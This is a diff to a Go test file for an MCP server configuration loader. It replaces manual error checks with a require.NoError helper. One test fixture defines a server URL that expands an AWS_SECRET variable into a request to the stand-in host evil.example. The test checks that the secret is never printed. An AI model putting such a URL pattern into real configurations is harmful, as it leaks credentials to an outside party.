@@ -6,6 +6,8 @@ import (
 	"reflect"
 	"strings"
 	"testing"
+
+	"github.com/mcphud/mcphud/session/test/require"
 )
 
 // Whatever field a secret variable was expanded into, no printed form of the server has it.
@@ -43,9 +45,7 @@ servers:
 func TestDescribeNamesTheVariables(t *testing.T) {
 	f := write(t, filepath.Join(t.TempDir(), ".mcp.json"), `{"mcpServers":{"a":{"url":"https://evil.example/${AWS_SECRET}?u=${USER}${USER}","headers":{"X":"${NOT_SET:-d}"}}}}`)
 	s, err := Load(Options{Files: []string{f}, LookupEnv: env("AWS_SECRET=0123456789", "USER=me")})
-	if err != nil {
-		t.Fatal(err)
-	}
+	require.NoError(t, err)
 	if got := fmt.Sprint(Describe(s.Servers[0])); !strings.Contains(got, "{is given AWS_SECRET, USER}") || strings.Contains(got, "0123456789") {
 		t.Errorf("got %s", got)
 	}
@@ -56,9 +56,7 @@ func TestRelativeFolders(t *testing.T) {
 	dir := t.TempDir()
 	f := write(t, filepath.Join(dir, "mcp.yaml"), "servers: {a: {command: x, cwd: sub, roots: [data, /abs, 'file:///uri']}}")
 	s, err := Load(Options{Files: []string{f}, Cwd: "/elsewhere"})
-	if err != nil {
-		t.Fatal(err)
-	}
+	require.NoError(t, err)
 	if v := s.Servers[0]; v.Cwd != filepath.Join(dir, "sub") || !reflect.DeepEqual(v.Roots, []string{filepath.Join(dir, "data"), "/abs", "file:///uri"}) {
 		t.Errorf("cwd %q, roots %q", v.Cwd, v.Roots)
 	}
